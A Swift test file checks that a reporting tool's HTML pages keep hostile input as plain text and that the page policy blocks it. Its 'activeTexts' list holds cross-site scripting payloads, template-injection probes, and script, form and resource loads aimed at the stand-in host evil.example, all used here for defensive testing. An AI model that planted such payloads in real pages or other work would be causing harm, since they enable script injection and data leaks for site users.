import AuditModel
import Foundation
import Markup
import TestSupport
import Testing

@testable import Reporting

/// Hostile text in every text of a report, in the pages as parsers and a browser with scripts see them.
///
/// The name makes `./test` run it apart, as it does with all browsers.
@Suite struct HostileBrowserTests {
    /// Every hostile text, each once.
    private static let texts: [String] = {
        var seen: Set<String> = []
        return (hostileTexts + activeTexts).filter { seen.insert($0).inserted }
    }()

    /// A harmless word in the place of each text, and nothing in the place of none.
    private static func words(_ texts: [String]) -> [String] {
        texts.enumerated().map { $1.isEmpty ? "" : "qz\($0)qz" }
    }

    private static let pages: [any PageFormat] = [
        HTMLFormat(), HTMLFormat(depth: .executive), HTMLFormat(depth: .manager), QuestionnaireFormat(),
    ]

    private struct Entry: Encodable {
        var word: String
        var text: String
        var shown: String
        var isActive: Bool
    }

    @Test func `a report that says it everywhere has each text in every field of text`() throws {
        let texts = ["one", "two", "three"]
        let report = try Report.everywhere(texts)
        var (actions, changes): ([ActionRow], [ChangeRow]) = ([], [])
        try report.actions.forEach { actions.append($0) }
        try report.changes.forEach { changes.append($0) }

        let fields = [(report as Any, "report"), (actions, "actions"), (changes, "changes")].map {
            TextFields($0.0, at: $0.1).texts
        }

        #expect(fields.map(\.count) == [128, 4, 6])
        for (path, found) in fields.flatMap({ $0 }) where !path.hasSuffix(".evidence.sha256") {
            #expect(
                found.contains("one two three") || Set(found).isSuperset(of: texts),
                "\(path): \(found.prefix(5))"
            )
        }
    }

    @Test(.enabled(if: Self.isReady, "no Chromium, or no python3 with venv, on this machine"))
    func `hostile text stays text, and raw it is stopped by the page's policy`() async throws {
        let folder = try TemporaryFolder()
        try write(Self.texts, to: "hostile", in: folder)
        try write(Self.words(Self.texts), to: "harmless", in: folder)
        try write(["qz0qz"], to: "short", in: folder)
        let entries = zip(Self.texts, Self.words(Self.texts)).map { text, word in
            Entry(
                word: word,
                text: text,
                shown: VisibleText.of(text, keepingLayout: true),
                isActive: activeTexts.contains(text)
            )
        }
        try JSONEncoder().encode(entries).write(to: folder.url.appending(path: "texts.json"))

        let check = try await Validator.run("check_hostile", [folder.url.path], in: "Browser")

        #expect(check.status == 0, "\(check.output)")
    }

    private func write(_ texts: [String], to name: String, in folder: TemporaryFolder) throws {
        let home = ReportFolder(path: folder.url.appending(path: name).path)
        for page in Self.pages { _ = try page.write(.everywhere(texts), to: home) }
    }

    private static var isReady: Bool {
        ["chromium", "chromium-browser", "google-chrome"].contains { Tool.path($0) != nil }
            && Tool.path("python3") != nil
    }
}

/// Texts that do something where they are not text: a script that runs, a request that leaves, a page that goes.
let activeTexts = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "\"><script>alert(1)</script>", "\"><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<a href=\"javascript:alert(1)\">go</a>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=\"http://evil.example/\"><script src=\"x.js\"></script>",
    "<script src=\"http://evil.example/x.js\"></script>",
    "<form action=\"http://evil.example/form\"><input name=a></form>",
    "<img src=\"http://evil.example/i.png\">", "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<style>@import url(http://evil.example/y.css); body { background: url(http://evil.example/b.png) }</style>",
    "<p style=\"background: url(http://evil.example/s.png)\">",
    "<iframe src=\"http://evil.example/f\"></iframe>",
    "<object data=\"http://evil.example/o\"></object>", "<embed src=\"http://evil.example/e\">",
    "<video autoplay src=\"http://evil.example/v\"></video>", "<audio src=\"http://evil.example/a\"></audio>",
    "<link rel=prefetch href=\"http://evil.example/p\">",
    "<link rel=preload as=image href=\"http://evil.example/l\">",
    "<link rel=icon href=\"http://evil.example/icon\">", "<link rel=manifest href=\"http://evil.example/m\">",
    "<script type=module>import 'http://evil.example/m.js'</script>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/r\">",
    "javascript:alert(1)", "{{7*7}}", "${7*7}", "]]>", "\u{202E}evil\u{2066}", "\u{0}",
    "＜script＞alert(1)＜/script＞",
]
